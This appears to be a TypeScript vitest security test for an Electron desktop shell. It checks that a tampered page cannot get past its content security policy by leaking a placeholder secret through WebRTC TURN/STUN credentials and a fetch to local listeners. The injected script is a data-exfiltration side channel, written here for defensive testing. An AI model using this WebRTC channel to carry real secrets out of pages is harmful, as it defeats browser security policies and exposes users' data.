/**
 * Whether a page of the desktop shell that was tampered with reaches a network past its policy: by WebRTC, which is subject neither to
 * a content security policy nor to a filter of requests. In Chromium, with the policy and the proxy that the shell sets.
 */
import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:net';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { chromiumTitle, hasChromium, launchChromium, type Windows } from '../support/chromium.ts';
import { until } from '../support/daemon.ts';
import { electron } from '../unit/desktop/electron.ts';

vi.mock('electron', () => electron);
const { NO_NETWORK, PAGE_POLICY, WEBRTC_POLICY } = await import('../../main/security.ts');

const PLACE = 'https://console.test';
/** Until nobody answered at any way. */
const WAIT_MS = 90_000;
const WAYS = 2;
const SECRET = 'passphrase';

const script = (udp: number, tcp: number): string => `
const servers = [['udp', ${udp}], ['tcp', ${tcp}]].flatMap(([by, port]) => [
  { urls: 'turn:127.0.0.1:' + port + '?transport=' + by, username: '${SECRET}', credential: 'x' },
  ...(by === 'udp' ? [{ urls: 'stun:127.0.0.1:' + port }] : []),
]);
const line = new RTCPeerConnection({ iceServers: servers });
line.createDataChannel('x');
line.addEventListener('icegatheringstatechange', () => (document.title = line.iceGatheringState));
line.createOffer().then((offer) => line.setLocalDescription(offer));
fetch('http://127.0.0.1:${tcp}/?${SECRET}').catch(() => {});
`;

describe.skipIf(!hasChromium)(chromiumTitle('a page of the shell'), () => {
  let udp: Socket;
  let tcp: Server;
  /** What arrived, by the way that it came. */
  const heard: string[] = [];
  const ports = { udp: 0, tcp: 0 };

  beforeAll(async () => {
    udp = createSocket('udp4').on('message', () => heard.push('udp'));
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    tcp = createServer((socket) => {
      heard.push('tcp');
      socket.on('error', () => {}).destroy();
    });
    await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
    ports.udp = udp.address().port;
    ports.tcp = (tcp.address() as { port: number }).port;
  });
  afterAll(async () => {
    udp.close();
    await new Promise((resolve) => tcp.close(resolve));
  });

  /** Lets the page try; returns the ways that led out. */
  async function tried(args: readonly string[]): Promise<string[]> {
    heard.length = 0;
    let browser: Windows | null = null;
    try {
      browser = await launchChromium(args);
      const page = await browser.newPage();
      await page.route(`${PLACE}/**`, (route) => {
        const isScript = route.request().url().endsWith('.js');
        const type = isScript ? 'text/javascript' : 'text/html';
        const body = isScript ? script(ports.udp, ports.tcp) : '<!doctype html><script src="/a.js"></script>';
        return route.fulfill({ body, headers: { 'content-type': type, 'content-security-policy': PAGE_POLICY } });
      });
      await page.goto(`${PLACE}/`);
      const shown = page;
      const isOver = async () => new Set(heard).size === WAYS || (await shown.title()) === 'complete';
      await until('every way was tried', isOver, WAIT_MS);
      return [...new Set(heard)].sort();
    } finally {
      await browser?.close();
    }
  }

  it('would have a network by WebRTC', async () => {
    expect(await tried([])).toEqual(['tcp', 'udp']);
  });

  it('has none', async () => {
    const { proxyRules, proxyBypassRules } = NO_NETWORK;
    expect(
      await tried([
        `--webrtc-ip-handling-policy=${WEBRTC_POLICY}`,
        `--force-webrtc-ip-handling-policy=${WEBRTC_POLICY}`,
        `--proxy-server=${proxyRules}`,
        `--proxy-bypass-list=${proxyBypassRules}`,
      ]),
    ).toEqual([]);
  });
});
